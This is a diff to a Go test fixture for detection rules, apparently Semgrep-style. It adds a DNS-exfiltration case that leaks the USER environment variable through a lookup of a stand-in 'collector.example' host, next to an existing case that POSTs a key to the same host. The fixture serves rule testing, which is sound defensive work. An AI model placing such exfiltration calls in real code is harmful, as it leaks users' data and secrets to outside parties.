@@ -2,6 +2,7 @@ package main
 
 import (
 	b64 "encoding/base64"
+	"net"
 	"net/http"
 	"os"
 	"os/exec"
@@ -23,4 +24,12 @@ func leak() {
 	http.Post("http://collector.example/k", "text/plain", strings.NewReader(key))
 	// ok: package.go.secret-to-network
 	http.Get("https://proxy.golang.org/")
+}
+
+func dns() {
+	user := os.Getenv("USER")
+	// ruleid: package.go.dns-exfiltration
+	net.LookupHost(user + ".collector.example")
+	// ok: package.go.dns-exfiltration
+	net.LookupHost("proxy.golang.org")
 }
